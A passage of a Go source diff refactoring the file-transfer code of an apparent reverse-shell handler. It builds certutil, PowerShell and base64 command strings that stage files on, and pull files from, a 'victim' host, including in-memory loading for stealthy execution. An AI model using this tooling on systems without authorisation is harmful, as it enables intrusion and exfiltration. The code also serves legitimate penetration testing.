@@ -5,7 +5,9 @@ import (
 	"crypto/md5"
 	"encoding/base64"
 	"encoding/hex"
+	"errors"
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"path/filepath"
@@ -13,13 +15,23 @@ import (
 	"time"
 
 	"github.com/chsoares/gummy/internal/ui"
+	"golang.org/x/sys/unix"
 	"golang.org/x/term"
 )
 
 // Transferer handles file upload/download operations
+// Commands go through the session mux, so their output never mixes with the interactive shell
 type Transferer struct {
 	conn      net.Conn
+	mux       *SessionMux
 	sessionID string
+	facts     HostFacts // Decide o encoder/decoder usado no alvo
+	platform  string    // linux, windows... (escolhe os comandos de transfer)
+
+	stateDir          string   // Estado das transferências retomáveis (ver resume.go)
+	previousStateDirs []string // Estados deixados por sessões anteriores do mesmo host
+
+	files *FileServer // Servidor HTTP para transfers fora de banda (nil = desligado)
 }
 
 // Config holds transfer configuration
@@ -31,45 +43,280 @@ type Config struct {
 // DefaultConfig returns default transfer configuration
 func DefaultConfig() Config {
 	return Config{
-		ChunkSize: 32768, // 32KB chunks (safe for most shells)
+		ChunkSize: CurrentSettings().ChunkSize, // 32KB by default (safe for most shells)
 		Timeout:   30 * time.Second,
 	}
 }
 
-// NewTransferer creates a new Transferer instance
-func NewTransferer(conn net.Conn, sessionID string) *Transferer {
-	return &Transferer{
-		conn:      conn,
-		sessionID: sessionID,
+// NewTransferer creates a new Transferer for a session
+// Transfers use the session's control channel when there is one
+func NewTransferer(session *SessionInfo) *Transferer {
+	channel := session.ControlSession()
+	t := &Transferer{
+		conn:      channel.Conn,
+		mux:       channel.Mux,
+		sessionID: session.ID,
+		facts:     session.Facts(),
+		platform:  session.Platform(),
+
+		stateDir:          session.TransfersDir(),
+		previousStateDirs: session.previousTransfersDirs(),
+	}
+	if session.manager != nil {
+		t.files = session.manager.FileServer()
+	}
+	return t
+}
+
+// exec runs a transfer command and fails on a non-zero exit status
+func (t *Transferer) exec(ctx context.Context, cmd string) (string, error) {
+	output, code, err := t.mux.Exec(ctx, cmd)
+	if err != nil {
+		return output, err
+	}
+	if code != 0 {
+		return output, fmt.Errorf("remote command failed (exit %d)", code)
+	}
+	return output, nil
+}
+
+// decodeCommand returns the remote command that decodes a base64 file into dst
+// Falls back to python/perl when the target has no base64 binary
+func (t *Transferer) decodeCommand(src, dst string) string {
+	if !t.facts.HasTool("base64") {
+		if python := t.facts.Python(); python != "" {
+			return fmt.Sprintf("%s -c 'import base64,sys;open(sys.argv[2],\"wb\").write(base64.b64decode(open(sys.argv[1]).read()))' %s %s",
+				python, src, dst)
+		}
+		if t.facts.HasTool("perl") {
+			return fmt.Sprintf("perl -MMIME::Base64 -e 'local $/;open F,$ARGV[0] or exit 1;print decode_base64(<F>)' %s > %s", src, dst)
+		}
 	}
+	return fmt.Sprintf("base64 -d %s > %s", src, dst)
+}
+
+// encodeCommand returns the remote command that prints a file as base64
+// Falls back to python/perl when the target has no base64 binary
+func (t *Transferer) encodeCommand(path string) string {
+	if !t.facts.HasTool("base64") {
+		if python := t.facts.Python(); python != "" {
+			return fmt.Sprintf("%s -c 'import base64,sys;sys.stdout.write(base64.b64encode(open(sys.argv[1],\"rb\").read()).decode())' %s 2>/dev/null",
+				python, path)
+		}
+		if t.facts.HasTool("perl") {
+			return fmt.Sprintf("perl -MMIME::Base64 -e 'local $/;open F,$ARGV[0] or exit 1;print encode_base64(<F>,\"\")' %s 2>/dev/null", path)
+		}
+	}
+	return fmt.Sprintf("base64 -w 0 %s 2>/dev/null", path)
+}
+
+// encodeStdin returns the remote command that encodes its stdin as base64
+// Used at the end of a pipeline (e.g. tar czf - dir | <encoder>)
+func (t *Transferer) encodeStdin() string {
+	if !t.facts.HasTool("base64") {
+		if python := t.facts.Python(); python != "" {
+			return python + " -c 'import base64,sys;sys.stdout.write(base64.b64encode(getattr(sys.stdin,\"buffer\",sys.stdin).read()).decode())'"
+		}
+		if t.facts.HasTool("perl") {
+			return "perl -MMIME::Base64 -0777 -ne 'print encode_base64($_,\"\")'"
+		}
+	}
+	return "base64 -w 0"
+}
+
+// downloadCommand returns the remote command that prints a file as base64
+func (t *Transferer) downloadCommand(remotePath string) string {
+	switch t.shell() {
+	case "powershell":
+		return fmt.Sprintf("[Convert]::ToBase64String([IO.File]::ReadAllBytes(%s))", psPath(remotePath))
+	case "cmd":
+		// certutil can only encode to a file; a failed encode skips the type
+		tmp := fmt.Sprintf("%%TEMP%%\\gummy_%s.b64", generateSessionID()[:8])
+		return fmt.Sprintf("certutil -f -encode \"%s\" \"%s\" >nul && (type \"%s\" & del /f /q \"%s\" >nul 2>&1)",
+			remotePath, tmp, tmp, tmp)
+	}
+	return t.encodeCommand(remotePath)
+}
+
+// cleanup runs a best-effort cleanup command after a failed or cancelled transfer
+func (t *Transferer) cleanup(cmd string) {
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	t.mux.Exec(ctx, cmd)
+}
+
+// cancelled converts a context error into the user-facing cancel message
+func cancelled(ctx context.Context, what string, err error) error {
+	if ctx.Err() != nil {
+		return fmt.Errorf("%s cancelled by user", what)
+	}
+	return err
+}
+
+// progressWriter counts bytes written and reports progress
+type progressWriter struct {
+	w          io.Writer
+	n          int
+	onProgress func(int)
+}
+
+// Write implements io.Writer
+func (p *progressWriter) Write(b []byte) (int, error) {
+	n, err := p.w.Write(b)
+	p.n += n
+	p.onProgress(p.n)
+	return n, err
+}
+
+// uploadPlan holds the remote commands an upload needs on one kind of shell
+type uploadPlan struct {
+	chunkSize   int                 // Base64 characters per chunk (multiple of 4)
+	prepare     string              // Creates/cleans the temporary file
+	chunk       func(string) string // Appends one base64 chunk
+	finish      string              // Puts the final file in place
+	cleanup     string              // Removes leftovers after a failure
+	hash        string              // Prints the MD5 of the final file
+	requireHash bool                // Success can only be confirmed by the hash
+}
+
+// shell returns the kind of shell transfers talk to: "sh", "powershell" or "cmd"
+// Windows sessions whose mux doesn't speak cmd are driven through PowerShell
+func (t *Transferer) shell() string {
+	if t.platform != "windows" {
+		return "sh"
+	}
+	if t.mux.Shell() == "cmd" {
+		return "cmd"
+	}
+	return "powershell"
+}
+
+// remoteBase returns the last element of a remote path (Unix or Windows separators)
+func remoteBase(path string) string {
+	path = strings.TrimRight(path, "/\\")
+	if idx := strings.LastIndexAny(path, "/\\"); idx >= 0 {
+		return path[idx+1:]
+	}
+	return path
+}
+
+// psQuote quotes a string for PowerShell (single quotes, no expansion)
+func psQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
+}
+
+// psPath resolves a path against the PowerShell location (not the .NET cwd)
+func psPath(path string) string {
+	return fmt.Sprintf("$ExecutionContext.SessionState.Path.GetUnresolvedProviderPathFromPSPath(%s)", psQuote(path))
+}
+
+// uploadPlanFor returns the upload commands for the session's shell
+func (t *Transferer) uploadPlanFor(remotePath string) uploadPlan {
+	switch t.shell() {
+	case "powershell":
+		// Decoded bytes are appended straight to a .part file, renamed at the end
+		part := remotePath + ".part"
+		return uploadPlan{
+			chunkSize: 8000,
+			prepare:   fmt.Sprintf("[IO.File]::WriteAllBytes(%s, [byte[]]@())", psPath(part)),
+			chunk: func(chunk string) string {
+				return fmt.Sprintf("& { $b = [Convert]::FromBase64String('%s'); $f = [IO.File]::Open(%s, 'Append', 'Write'); $f.Write($b, 0, $b.Length); $f.Close() }",
+					chunk, psPath(part))
+			},
+			finish:  fmt.Sprintf("Move-Item -Force -LiteralPath %s -Destination %s", psQuote(part), psQuote(remotePath)),
+			cleanup: fmt.Sprintf("Remove-Item -Force -LiteralPath %s -ErrorAction SilentlyContinue", psQuote(part)),
+			hash:    fmt.Sprintf("(Get-FileHash -Algorithm MD5 -LiteralPath %s).Hash", psQuote(remotePath)),
+		}
+	case "cmd":
+		// cmd.exe lines are limited to 8191 characters; certutil decodes at the end
+		b64 := remotePath + ".b64"
+		return uploadPlan{
+			chunkSize: 4000,
+			prepare:   fmt.Sprintf("del /f /q \"%s\" >nul 2>&1 & type nul > \"%s\"", b64, b64),
+			chunk: func(chunk string) string {
+				return fmt.Sprintf("echo %s>>\"%s\"", chunk, b64)
+			},
+			finish:      fmt.Sprintf("certutil -f -decode \"%s\" \"%s\" >nul && del /f /q \"%s\" >nul 2>&1", b64, remotePath, b64),
+			cleanup:     fmt.Sprintf("del /f /q \"%s\" >nul 2>&1", b64),
+			hash:        fmt.Sprintf("certutil -hashfile \"%s\" MD5", remotePath),
+			requireHash: true,
+		}
+	}
+
+	b64 := remotePath + ".b64"
+	return uploadPlan{
+		chunkSize: DefaultConfig().ChunkSize,
+		prepare:   fmt.Sprintf("rm -f %s 2>/dev/null; touch %s", b64, b64),
+		chunk: func(chunk string) string {
+			return fmt.Sprintf("echo '%s' >> %s", chunk, b64)
+		},
+		finish:  fmt.Sprintf("%s && rm %s", t.decodeCommand(b64, remotePath), b64),
+		cleanup: fmt.Sprintf("rm -f %s", b64),
+		hash:    fmt.Sprintf("md5sum %s 2>/dev/null | awk '{print $1}'", remotePath),
+	}
+}
+
+// parseMD5 finds an MD5 digest in hash command output
+// Handles md5sum, Get-FileHash (uppercase) and certutil (optionally space separated)
+func parseMD5(output string) string {
+	for _, line := range strings.Split(output, "\n") {
+		// md5sum prints "<hash>  <file>"
+		if fields := strings.Fields(line); len(fields) > 0 && len(fields[0]) == 32 && isHex(fields[0]) {
+			return strings.ToLower(fields[0])
+		}
+		line = strings.ToLower(strings.ReplaceAll(strings.TrimSpace(line), " ", ""))
+		if len(line) == 32 && isHex(line) {
+			return line
+		}
+	}
+	return ""
 }
 
 // Upload sends a local file to the remote system
 // localPath: path to local file
 // remotePath: destination path on remote system (if empty, uses filename in remote cwd)
+// The commands depend on the remote shell (sh, PowerShell or cmd.exe with certutil)
 // Press ESC to cancel
 func (t *Transferer) Upload(ctx context.Context, localPath, remotePath string) error {
+	// If remotePath is empty, use just the filename (will go to remote cwd)
+	if remotePath == "" {
+		remotePath = filepath.Base(localPath)
+	}
+
+	// With the file server on, the target fetches the file itself
+	if t.files != nil {
+		err := t.uploadHTTP(ctx, localPath, remotePath)
+		if err == nil || ctx.Err() != nil {
+			return err
+		}
+		fmt.Println(ui.Warning(fmt.Sprintf("HTTP upload failed (%v), falling back to the shell", err)))
+	}
+
+	// sh and PowerShell write chunks at offsets, so the upload can be resumed
+	if t.shell() != "cmd" {
+		return t.uploadResumable(ctx, localPath, remotePath)
+	}
+
 	// Read local file
 	data, err := os.ReadFile(localPath)
 	if err != nil {
 		return fmt.Errorf("failed to read local file: %w", err)
 	}
 
-	// If remotePath is empty, use just the filename (will go to remote cwd)
-	if remotePath == "" {
-		remotePath = filepath.Base(localPath)
-	}
+	return t.uploadData(ctx, filepath.Base(localPath), data, remotePath)
+}
 
+// uploadData sends data to remotePath in chunks and verifies its checksum
+// name is only used for progress messages
+func (t *Transferer) uploadData(ctx context.Context, name string, data []byte, remotePath string) error {
 	fileSize := len(data)
+	plan := t.uploadPlanFor(remotePath)
 
 	// Start spinner
 	spinner := ui.NewSpinner()
-	spinner.Start(fmt.Sprintf("Uploading %s... 0 B / %s (0%s)", filepath.Base(localPath), formatSize(fileSize), "%"))
+	spinner.Start(fmt.Sprintf("Uploading %s... 0 B / %s (0%s)", name, formatSize(fileSize), "%"))
 	defer spinner.Stop() // Ensure cleanup on error paths
 
-	// Drain leftover data from previous shell interactions
-	t.drainConnection()
-
 	// Encode to base64
 	encoded := base64.StdEncoding.EncodeToString(data)
 
@@ -78,41 +325,23 @@ func (t *Transferer) Upload(ctx context.Context, localPath, remotePath string) e
 	checksum := hex.EncodeToString(hash[:])
 
 	// Send file in chunks
-	config := DefaultConfig()
-	chunks := splitIntoChunks(encoded, config.ChunkSize)
+	chunks := splitIntoChunks(encoded, plan.chunkSize)
 
-	// Create remote file and prepare for writing (silently)
-	setupCommands := []string{
-		fmt.Sprintf("rm -f %s.b64 2>/dev/null", remotePath), // Clean any previous temp file
-		fmt.Sprintf("touch %s.b64", remotePath),              // Create temp base64 file
-	}
-
-	for _, cmd := range setupCommands {
-		t.conn.Write([]byte(cmd + "\n"))
-		time.Sleep(50 * time.Millisecond)
+	// Create remote temp file (clean any previous one)
+	if _, err := t.exec(ctx, plan.prepare); err != nil {
+		return cancelled(ctx, "upload", fmt.Errorf("failed to create remote file: %w", err))
 	}
 
 	// Send chunks with progress updates
 	bytesSent := 0
 
 	for i, chunk := range chunks {
-		// Check for cancellation
-		select {
-		case <-ctx.Done():
-			return fmt.Errorf("upload cancelled by user")
-		default:
-		}
-
-		// Append chunk to remote file
-		cmd := fmt.Sprintf("echo '%s' >> %s.b64", chunk, remotePath)
-		_, err := t.conn.Write([]byte(cmd + "\n"))
-		if err != nil {
-			return fmt.Errorf("connection lost during upload: %w", err)
+		// Append chunk to remote file (each chunk waits for the shell to finish)
+		if _, err := t.exec(ctx, plan.chunk(chunk)); err != nil {
+			t.cleanup(plan.cleanup)
+			return cancelled(ctx, "upload", fmt.Errorf("connection lost during upload: %w", err))
 		}
 
-		// Longer sleep for larger chunks to avoid overwhelming the shell
-		time.Sleep(50 * time.Millisecond)
-
 		bytesSent += len(chunk)
 
 		// Calculate actual file progress (not base64 size)
@@ -125,77 +354,37 @@ func (t *Transferer) Upload(ctx context.Context, localPath, remotePath string) e
 		// Update spinner every 50 chunks or on last chunk
 		if i%50 == 0 || i == len(chunks)-1 {
 			spinner.Update(fmt.Sprintf("Uploading %s... %s / %s (%d%s)",
-				filepath.Base(localPath), formatSize(actualBytes), formatSize(fileSize), percent, "%"))
-		}
-
-		// Drain buffer every 25 chunks to prevent overflow
-		if i%25 == 0 && i > 0 {
-			time.Sleep(100 * time.Millisecond)
-			t.drainConnection()
+				name, formatSize(actualBytes), formatSize(fileSize), percent, "%"))
 		}
 	}
 
 	// Decode base64 and save final file
-	decodeCmd := fmt.Sprintf("base64 -d %s.b64 > %s && rm %s.b64", remotePath, remotePath, remotePath)
-	t.conn.Write([]byte(decodeCmd + "\n"))
-	time.Sleep(200 * time.Millisecond)
-
-	// Drain output from all commands
-	t.drainConnection()
-
-	// Verify checksum with markers (like download)
-	marker := "GUMMY_MD5_START"
-	endMarker := "GUMMY_MD5_END"
-	cmd := fmt.Sprintf("echo %s; md5sum %s 2>/dev/null | awk '{print $1}'; echo %s", marker, remotePath, endMarker)
-	t.conn.Write([]byte(cmd + "\n"))
-	time.Sleep(300 * time.Millisecond)
-
-	// Read MD5 response
-	var output strings.Builder
-	buffer := make([]byte, 2048)
-	t.conn.SetReadDeadline(time.Now().Add(2 * time.Second))
+	if _, err := t.exec(ctx, plan.finish); err != nil {
+		t.cleanup(plan.cleanup)
+		return cancelled(ctx, "upload", fmt.Errorf("failed to decode remote file: %w", err))
+	}
 
-	for {
-		n, err := t.conn.Read(buffer)
-		if err != nil {
-			break
-		}
-		if n > 0 {
-			output.WriteString(string(buffer[:n]))
-			if strings.Contains(output.String(), endMarker) {
-				break
-			}
-		}
+	// Verify checksum (md5sum may be missing on the target)
+	output, _, err := t.mux.Exec(ctx, plan.hash)
+	if err != nil {
+		return cancelled(ctx, "upload", err)
 	}
 
-	t.conn.SetReadDeadline(time.Time{})
+	remoteSum := parseMD5(output)
+	spinner.Stop()
 
-	// Extract MD5
-	fullOutput := output.String()
-	startIdx := strings.LastIndex(fullOutput, marker)
-	if startIdx != -1 {
-		endIdx := strings.Index(fullOutput[startIdx:], endMarker)
-		if endIdx != -1 {
-			content := fullOutput[startIdx+len(marker):startIdx+endIdx]
-			lines := strings.Split(content, "\n")
-			for _, line := range lines {
-				line = strings.TrimSpace(line)
-				if len(line) == 32 && isHex(line) {
-					if line == checksum {
-						spinner.Stop()
-						fmt.Println(ui.Success(fmt.Sprintf("Upload complete! (MD5: %s)", checksum[:8])))
-						t.drainConnection()
-						return nil
-					}
-				}
-			}
+	if remoteSum != "" {
+		if remoteSum != checksum {
+			return fmt.Errorf("checksum mismatch (local %s, remote %s)", checksum[:8], remoteSum[:8])
 		}
+		fmt.Println(ui.Success(fmt.Sprintf("Upload complete! (MD5: %s)", checksum[:8])))
+		return nil
+	}
+	if plan.requireHash {
+		return fmt.Errorf("could not verify remote file: %s", remotePath)
 	}
 
-	// Fallback if MD5 check failed
-	spinner.Stop()
 	fmt.Println(ui.Success("Upload complete!"))
-	t.drainConnection()
 	return nil
 }
 
@@ -219,16 +408,13 @@ func (t *Transferer) UploadToBashVariable(ctx context.Context, localPath, varNam
 	spinner.Start(fmt.Sprintf("Loading %s to memory... 0 B / %s (0%s)", filepath.Base(localPath), formatSize(fileSize), "%"))
 	defer spinner.Stop()
 
-	// Drain leftover data
-	t.drainConnection()
-
 	// Encode to base64
 	encoded := base64.StdEncoding.EncodeToString(data)
 
 	// Initialize empty variable
-	initCmd := fmt.Sprintf("%s=''\n", varName)
-	t.conn.Write([]byte(initCmd))
-	time.Sleep(50 * time.Millisecond)
+	if _, err := t.exec(ctx, fmt.Sprintf("%s=''", varName)); err != nil {
+		return cancelled(ctx, "upload", err)
+	}
 
 	// Send file in chunks, concatenating to variable
 	config := DefaultConfig()
@@ -237,25 +423,14 @@ func (t *Transferer) UploadToBashVariable(ctx context.Context, localPath, varNam
 	bytesSent := 0
 
 	for i, chunk := range chunks {
-		// Check for cancellation
-		select {
-		case <-ctx.Done():
-			// Cleanup variable on cancel
-			t.conn.Write([]byte(fmt.Sprintf("unset %s\n", varName)))
-			return fmt.Errorf("upload cancelled by user")
-		default:
-		}
-
 		// Append chunk to variable (using += operator)
 		// Note: We keep it base64-encoded in the variable for now
-		cmd := fmt.Sprintf("%s+='%s'\n", varName, chunk)
-		_, err := t.conn.Write([]byte(cmd))
-		if err != nil {
-			return fmt.Errorf("connection lost during upload: %w", err)
+		if _, err := t.exec(ctx, fmt.Sprintf("%s+='%s'", varName, chunk)); err != nil {
+			// Cleanup variable on cancel
+			t.cleanup(fmt.Sprintf("unset %s", varName))
+			return cancelled(ctx, "upload", fmt.Errorf("connection lost during upload: %w", err))
 		}
 
-		time.Sleep(50 * time.Millisecond)
-
 		bytesSent += len(chunk)
 
 		// Calculate actual file progress
@@ -270,12 +445,6 @@ func (t *Transferer) UploadToBashVariable(ctx context.Context, localPath, varNam
 			spinner.Update(fmt.Sprintf("Loading %s to memory... %s / %s (%d%s)",
 				filepath.Base(localPath), formatSize(actualBytes), formatSize(fileSize), percent, "%"))
 		}
-
-		// Drain buffer every 25 chunks
-		if i%25 == 0 && i > 0 {
-			time.Sleep(100 * time.Millisecond)
-			t.drainConnection()
-		}
 	}
 
 	// Variable is now loaded with base64-encoded content
@@ -283,8 +452,6 @@ func (t *Transferer) UploadToBashVariable(ctx context.Context, localPath, varNam
 
 	spinner.Stop()
 	fmt.Println(ui.Success(fmt.Sprintf("Loaded %s into memory (%s)", filepath.Base(localPath), formatSize(fileSize))))
-
-	t.drainConnection()
 	return nil
 }
 
@@ -304,16 +471,13 @@ func (t *Transferer) UploadToPowerShellVariable(ctx context.Context, localPath,
 	spinner.Start(fmt.Sprintf("Loading %s to memory... 0 B / %s (0%s)", filepath.Base(localPath), formatSize(fileSize), "%"))
 	defer spinner.Stop()
 
-	// Drain leftover data
-	t.drainConnection()
-
 	// Encode to base64
 	encoded := base64.StdEncoding.EncodeToString(data)
 
 	// Initialize empty variable (PowerShell syntax)
-	initCmd := fmt.Sprintf("$%s = ''\r\n", varName)
-	t.conn.Write([]byte(initCmd))
-	time.Sleep(100 * time.Millisecond)
+	if _, err := t.exec(ctx, fmt.Sprintf("$%s = ''", varName)); err != nil {
+		return cancelled(ctx, "upload", err)
+	}
 
 	// PowerShell has 8191 char limit for cmd.exe, 32767 for PowerShell.exe
 	// Use smaller chunk size to be safe
@@ -323,24 +487,13 @@ func (t *Transferer) UploadToPowerShellVariable(ctx context.Context, localPath,
 	bytesSent := 0
 
 	for i, chunk := range chunks {
-		// Check for cancellation
-		select {
-		case <-ctx.Done():
-			// Cleanup variable on cancel
-			t.conn.Write([]byte(fmt.Sprintf("Remove-Variable -Name %s\r\n", varName)))
-			return fmt.Errorf("upload cancelled by user")
-		default:
-		}
-
 		// Append chunk to variable (PowerShell += operator)
-		cmd := fmt.Sprintf("$%s += '%s'\r\n", varName, chunk)
-		_, err := t.conn.Write([]byte(cmd))
-		if err != nil {
-			return fmt.Errorf("connection lost during upload: %w", err)
+		if _, err := t.exec(ctx, fmt.Sprintf("$%s += '%s'", varName, chunk)); err != nil {
+			// Cleanup variable on cancel
+			t.cleanup(fmt.Sprintf("Remove-Variable -Name %s", varName))
+			return cancelled(ctx, "upload", fmt.Errorf("connection lost during upload: %w", err))
 		}
 
-		time.Sleep(100 * time.Millisecond) // PowerShell may be slower
-
 		bytesSent += len(chunk)
 
 		// Calculate actual file progress
@@ -355,100 +508,20 @@ func (t *Transferer) UploadToPowerShellVariable(ctx context.Context, localPath,
 			spinner.Update(fmt.Sprintf("Loading %s to memory... %s / %s (%d%s)",
 				filepath.Base(localPath), formatSize(actualBytes), formatSize(fileSize), percent, "%"))
 		}
-
-		// Drain buffer every 10 chunks (more frequent for PowerShell)
-		if i%10 == 0 && i > 0 {
-			time.Sleep(150 * time.Millisecond)
-			t.drainConnection()
-		}
 	}
 
 	spinner.Stop()
 	fmt.Println(ui.Success(fmt.Sprintf("Loaded %s into memory (%s)", filepath.Base(localPath), formatSize(fileSize))))
-
-	t.drainConnection()
 	return nil
 }
 
-// UploadToPythonVariable uploads a file to a Python variable (in-memory, no disk write on victim)
-// This is used for stealthy script execution via Python
+// UploadToPythonVariable uploads a file to a shell variable for Python to exec (in-memory, no disk write on victim)
+// The variable belongs to the channel's shell (sh or PowerShell); the interpreter reads it from stdin
 func (t *Transferer) UploadToPythonVariable(ctx context.Context, localPath, varName string) error {
-	// Read local file
-	data, err := os.ReadFile(localPath)
-	if err != nil {
-		return fmt.Errorf("failed to read local file: %w", err)
+	if t.shell() == "powershell" {
+		return t.UploadToPowerShellVariable(ctx, localPath, varName)
 	}
-
-	fileSize := len(data)
-
-	// Start spinner
-	spinner := ui.NewSpinner()
-	spinner.Start(fmt.Sprintf("Loading %s to memory... 0 B / %s (0%s)", filepath.Base(localPath), formatSize(fileSize), "%"))
-	defer spinner.Stop()
-
-	// Drain leftover data
-	t.drainConnection()
-
-	// Encode to base64
-	encoded := base64.StdEncoding.EncodeToString(data)
-
-	// Initialize empty variable (Python syntax)
-	initCmd := fmt.Sprintf("%s = ''\n", varName)
-	t.conn.Write([]byte(initCmd))
-	time.Sleep(50 * time.Millisecond)
-
-	// Python has similar ARG_MAX constraints as bash
-	config := DefaultConfig()
-	chunks := splitIntoChunks(encoded, config.ChunkSize)
-
-	bytesSent := 0
-
-	for i, chunk := range chunks {
-		// Check for cancellation
-		select {
-		case <-ctx.Done():
-			// Cleanup variable on cancel
-			t.conn.Write([]byte(fmt.Sprintf("del %s\n", varName)))
-			return fmt.Errorf("upload cancelled by user")
-		default:
-		}
-
-		// Append chunk to variable (Python += operator)
-		cmd := fmt.Sprintf("%s += '%s'\n", varName, chunk)
-		_, err := t.conn.Write([]byte(cmd))
-		if err != nil {
-			return fmt.Errorf("connection lost during upload: %w", err)
-		}
-
-		time.Sleep(50 * time.Millisecond)
-
-		bytesSent += len(chunk)
-
-		// Calculate actual file progress
-		actualBytes := int(float64(bytesSent) / 1.37)
-		if actualBytes > fileSize {
-			actualBytes = fileSize
-		}
-		percent := int(float64(actualBytes) / float64(fileSize) * 100)
-
-		// Update spinner every 50 chunks or on last chunk
-		if i%50 == 0 || i == len(chunks)-1 {
-			spinner.Update(fmt.Sprintf("Loading %s to memory... %s / %s (%d%s)",
-				filepath.Base(localPath), formatSize(actualBytes), formatSize(fileSize), percent, "%"))
-		}
-
-		// Drain buffer every 25 chunks
-		if i%25 == 0 && i > 0 {
-			time.Sleep(100 * time.Millisecond)
-			t.drainConnection()
-		}
-	}
-
-	spinner.Stop()
-	fmt.Println(ui.Success(fmt.Sprintf("Loaded %s into memory (%s)", filepath.Base(localPath), formatSize(fileSize))))
-
-	t.drainConnection()
-	return nil
+	return t.UploadToBashVariable(ctx, localPath, varName)
 }
 
 // Download retrieves a file from the remote system
@@ -458,111 +531,32 @@ func (t *Transferer) UploadToPythonVariable(ctx context.Context, localPath, varN
 func (t *Transferer) Download(ctx context.Context, remotePath, localPath string) error {
 	// If localPath is empty, save to current directory with same filename
 	if localPath == "" {
-		localPath = filepath.Base(remotePath)
-	}
-
-	// Start spinner for download
-	spinner := ui.NewSpinner()
-	spinner.Start(fmt.Sprintf("Downloading %s... 0 B", filepath.Base(remotePath)))
-	defer spinner.Stop()
-
-	// Drain leftover data from previous shell interactions
-	t.drainConnection()
-
-	// Use unique markers
-	marker := "GUMMY_B64_START"
-	endMarker := "GUMMY_B64_END"
-
-	// Send command with markers
-	cmd := fmt.Sprintf("echo %s; base64 -w 0 %s 2>/dev/null; echo; echo %s", marker, remotePath, endMarker)
-	t.conn.Write([]byte(cmd + "\n"))
-
-	time.Sleep(500 * time.Millisecond)
-
-	// Read output with progress indication
-	var output strings.Builder
-	buffer := make([]byte, 8192)
-	totalBytes := 0
-	lastProgressUpdate := 0
-
-	for {
-		// Check for cancellation
-		select {
-		case <-ctx.Done():
-			return fmt.Errorf("download cancelled by user")
-		default:
-		}
-
-		// Reset deadline on each read
-		t.conn.SetReadDeadline(time.Now().Add(10 * time.Second))
-
-		n, err := t.conn.Read(buffer)
-		if err != nil {
-			// Timeout - break and check what we have
-			break
-		}
-
-		if n > 0 {
-			output.WriteString(string(buffer[:n]))
-			totalBytes += n
-
-			// Update spinner every 100KB to avoid spam
-			if totalBytes-lastProgressUpdate >= 100*1024 {
-				spinner.Update(fmt.Sprintf("Downloading %s... %s", filepath.Base(remotePath), formatSize(totalBytes)))
-				lastProgressUpdate = totalBytes
-			}
-
-			// Check if we have complete data: end marker AFTER last start marker
-			currentOutput := output.String()
-			lastStartIdx := strings.LastIndex(currentOutput, marker)
-			if lastStartIdx != -1 {
-				remainingAfterStart := currentOutput[lastStartIdx:]
-				if strings.Contains(remainingAfterStart, endMarker) {
-					break
-				}
-			}
-		}
-	}
-
-	t.conn.SetReadDeadline(time.Time{})
-
-	fullOutput := output.String()
-
-	// Find markers (use LastIndex to skip command echo)
-	startIdx := strings.LastIndex(fullOutput, marker)
-	if startIdx == -1 {
-		return fmt.Errorf("file not found: %s", remotePath)
-	}
-
-	endIdx := strings.Index(fullOutput[startIdx:], endMarker)
-	if endIdx == -1 {
-		return fmt.Errorf("incomplete download")
+		localPath = remoteBase(remotePath)
 	}
-	endIdx += startIdx
 
-	// Extract base64 content
-	content := fullOutput[startIdx+len(marker):endIdx]
-
-	// Clean and join base64 lines
-	lines := strings.Split(content, "\n")
-	var base64Lines []string
-	for _, line := range lines {
-		line = strings.TrimSpace(line)
-		if len(line) > 0 {
-			base64Lines = append(base64Lines, line)
+	// With the file server on, the target sends the file itself
+	if t.files != nil {
+		err := t.downloadHTTP(ctx, remotePath, localPath)
+		if err == nil || ctx.Err() != nil {
+			return err
 		}
+		fmt.Println(ui.Warning(fmt.Sprintf("HTTP download failed (%v), falling back to the shell", err)))
 	}
 
-	if len(base64Lines) == 0 {
-		return fmt.Errorf("file is empty: %s", remotePath)
+	// sh and PowerShell read chunks at offsets, so the download can be resumed
+	if t.shell() != "cmd" {
+		return t.downloadResumable(ctx, remotePath, localPath)
 	}
 
-	base64Data := strings.Join(base64Lines, "")
-
-	// Decode
-	decoded, err := base64.StdEncoding.DecodeString(base64Data)
+	decoded, err := t.fetch(ctx, t.downloadCommand(remotePath), remoteBase(remotePath))
 	if err != nil {
-		return fmt.Errorf("failed to decode: %w", err)
+		if errors.Is(err, errRemoteFailed) {
+			return fmt.Errorf("file not found: %s", remotePath)
+		}
+		if errors.Is(err, errEmptyOutput) {
+			return fmt.Errorf("file is empty: %s", remotePath)
+		}
+		return err
 	}
 
 	// Save
@@ -574,43 +568,63 @@ func (t *Transferer) Download(ctx context.Context, remotePath, localPath string)
 	hash := md5.Sum(decoded)
 	checksum := hex.EncodeToString(hash[:])
 
-	spinner.Stop()
 	fmt.Println(ui.Success(fmt.Sprintf("Download complete! Saved to: %s (%s, MD5: %s)",
 		localPath, formatSize(len(decoded)), checksum[:8])))
-
-	t.drainConnection()
 	return nil
 }
 
-// drainConnection drains any pending data from connection
-// This is CRITICAL before file transfer to remove leftover shell output
-func (t *Transferer) drainConnection() {
-	buffer := make([]byte, 4096)
-	t.conn.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
+// Errors returned by fetch
+var (
+	errRemoteFailed = errors.New("remote command failed")
+	errEmptyOutput  = errors.New("remote command printed nothing")
+)
 
-	for {
-		_, err := t.conn.Read(buffer)
-		if err != nil {
-			break // Timeout means buffer is clean
+// fetch runs a command that prints base64 and returns the decoded bytes
+// name is only used for progress messages
+func (t *Transferer) fetch(ctx context.Context, cmd, name string) ([]byte, error) {
+	// Start spinner for download
+	spinner := ui.NewSpinner()
+	spinner.Start(fmt.Sprintf("Downloading %s... 0 B", name))
+	defer spinner.Stop()
+
+	// Stream base64 output, updating the spinner every 100KB to avoid spam
+	var output strings.Builder
+	lastProgressUpdate := 0
+	progress := &progressWriter{w: &output, onProgress: func(total int) {
+		if total-lastProgressUpdate >= 100*1024 {
+			spinner.Update(fmt.Sprintf("Downloading %s... %s", name, formatSize(total)))
+			lastProgressUpdate = total
 		}
+	}}
+
+	code, err := t.mux.ExecStream(ctx, cmd, progress)
+	if err != nil {
+		return nil, cancelled(ctx, "download", err)
+	}
+	if code != 0 {
+		return nil, errRemoteFailed
 	}
 
-	t.conn.SetReadDeadline(time.Time{})
-}
+	// Clean and join base64 lines (certutil wraps them in BEGIN/END headers)
+	lines := strings.Split(output.String(), "\n")
+	var base64Lines []string
+	for _, line := range lines {
